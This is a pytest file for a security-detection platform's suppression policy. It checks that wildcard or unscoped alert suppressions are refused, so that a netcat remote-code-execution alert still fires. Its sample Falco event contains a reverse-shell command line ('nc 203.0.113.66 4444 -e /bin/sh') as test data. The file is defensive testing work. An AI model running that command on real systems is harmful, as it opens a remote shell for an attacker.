"""Suppressions cannot blind detection: concrete conditions for everyone, scope, expiry and impact for analysts.

Issue 13 item 5: an analyst posted `{"container_id": "*"}` with no rule and the next netcat
remote-code-execution event raised no alert. The policy lives in triage.services
(check_suppression_policy), so the API, the admin and any later page enforce the same rules.
"""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import override_settings
from django.utils import timezone

from detections.services.rules import save_sigma_rule
from telemetry.services import register_source
from tests.detections.pipeline_factories import EXEC_INTO_POD, ingest_lines, load_rule, make_match
from triage.models import Alert, Suppression
from triage.services import check_suppression_policy, create_suppression, update_suppression

pytestmark = pytest.mark.django_db

FALCO_NETCAT_RULE = (
    Path(settings.BASE_DIR)
    / "detections/library/rules/container-c2-nonstandard-protocols/falco_netcat_rce_in_container.yml"
)
NETCAT_RCE = {
    "hostname": "lab-node-2",
    "output": "Warning Netcat runs inside container that allows remote code execution",
    "priority": "Warning",
    "rule": "Netcat Remote Code Execution in Container",
    "source": "syscall",
    "time": "2026-11-20T12:50:01.435000000Z",
    "output_fields": {
        "container.id": "48dc4021807d",
        "container.name": "nc-c2-test",
        "proc.cmdline": "nc 203.0.113.66 4444 -e /bin/sh",
        "proc.exepath": "/bin/busybox",
        "proc.name": "nc",
        "user.name": "root",
    },
}


@pytest.fixture
def rule(db):
    return load_rule(EXEC_INTO_POD)


@pytest.fixture
def analyst_api(analyst):
    from rest_framework.test import APIClient

    client = APIClient()
    client.force_authenticate(analyst)
    return client


def in_days(days: float):
    return timezone.now() + timedelta(days=days)


@pytest.mark.parametrize(
    "conditions",
    [
        {"container_id": "*"},
        {"container_id": "**"},
        {"container_id": "?*"},
        {"container_id": ""},
        {"container_id": "  "},
        {"container_id": None},
        {"container_id": ["48dc4021807d", "*"]},
        {"container_id": "a*"},  # one literal character matches nearly everything too
        {"pod": "web-1", "container_id": "*"},  # one blind condition is enough to refuse
    ],
)
def test_wildcard_only_conditions_are_refused_for_everyone(engineer, rule, conditions):
    with pytest.raises(ValidationError) as refused:
        check_suppression_policy(user=engineer, conditions=conditions, rule=rule, strategy=None, expires_at=None)
    assert "conditions" in refused.value.message_dict


def test_an_analyst_must_scope_a_suppression_to_a_rule_or_a_strategy(analyst):
    with pytest.raises(ValidationError) as refused:
        check_suppression_policy(
            user=analyst, conditions={"pod": "web-1"}, rule=None, strategy=None, expires_at=in_days(1)
        )
    assert "rule" in refused.value.message_dict


@pytest.mark.parametrize("expires_days", [None, 31, -1])
def test_an_analyst_must_set_an_expiry_within_the_bound(analyst, rule, expires_days):
    expires_at = None if expires_days is None else in_days(expires_days)
    with pytest.raises(ValidationError) as refused:
        check_suppression_policy(
            user=analyst, conditions={"pod": "web-1"}, rule=rule, strategy=None, expires_at=expires_at
        )
    assert "expires_at" in refused.value.message_dict


def test_an_engineer_may_suppress_globally_without_expiry(engineer):
    suppression = create_suppression(
        name="CI", conditions={"k8s_user": "system:serviceaccount:ci:*"}, reason="CI deploys", user=engineer
    )
    assert (suppression.owner, suppression.rule, suppression.expires_at) == (engineer, None, None)


@override_settings(SUPPRESSION_ANALYST_MAX_PAST_MATCHES=2)
def test_a_suppression_hiding_many_past_matches_needs_an_engineer(analyst, engineer, rule):
    for n in range(3):
        make_match(rule=rule, entity=f"default/web-{n}", fields={"verb": "create"})
    values = {"name": "exec", "conditions": {"verb": "create"}, "reason": "debugging", "rule": rule}
    with pytest.raises(PermissionDenied, match="would hide 3 past matches; needs a detection engineer"):
        create_suppression(**values, user=analyst, expires_at=in_days(7))
    assert not Suppression.objects.exists()
    assert create_suppression(**values, user=engineer).pk


def test_only_the_owner_or_an_engineer_changes_a_suppression(analyst, engineer, rule):
    from tests.conftest import _user_with_role

    other = _user_with_role("ana-2", "Analyst")
    suppression = create_suppression(
        name="web-1", conditions={"pod": "web-1"}, reason="r", rule=rule, expires_at=in_days(3), user=analyst
    )
    with pytest.raises(PermissionDenied):
        update_suppression(suppression=suppression, user=other, changes={"enabled": False})
    update_suppression(suppression=suppression, user=engineer, changes={"expires_at": None})
    suppression.refresh_from_db()
    assert (suppression.expires_at, suppression.updated_by) == (None, engineer)


def test_an_analyst_cannot_widen_their_own_suppression(analyst, rule):
    suppression = create_suppression(
        name="web-1", conditions={"pod": "web-1"}, reason="r", rule=rule, expires_at=in_days(3), user=analyst
    )
    for changes in ({"conditions": {"pod": "*"}}, {"rule": None}, {"expires_at": None}):
        with pytest.raises(ValidationError):
            update_suppression(suppression=suppression, user=analyst, changes=changes)
    suppression.refresh_from_db()
    assert (suppression.conditions, suppression.rule) == ({"pod": "web-1"}, rule)


def test_the_wildcard_suppression_of_the_probe_is_refused_and_netcat_still_alerts(
    analyst_api, django_capture_on_commit_callbacks
):
    """The reproduction of issue 13: the POST is refused, so the netcat RCE that follows raises its alert."""
    rule = save_sigma_rule(yaml_text=FALCO_NETCAT_RULE.read_text())
    body = {"name": "noise", "conditions": {"container_id": "*"}, "reason": "too many alerts"}
    response = analyst_api.post("/api/v1/suppressions/", body, format="json")
    assert response.status_code == 400, response.content
    assert response.json()["detail"].startswith("conditions: container_id")
    assert not Suppression.objects.exists()

    source = register_source(name="falco-nodes", format="falco")
    with django_capture_on_commit_callbacks(execute=True):
        ingest_lines(source, [json.dumps(NETCAT_RCE)])
    alert = Alert.objects.get(rule=rule)
    assert alert.entity.startswith("48dc4021807d")
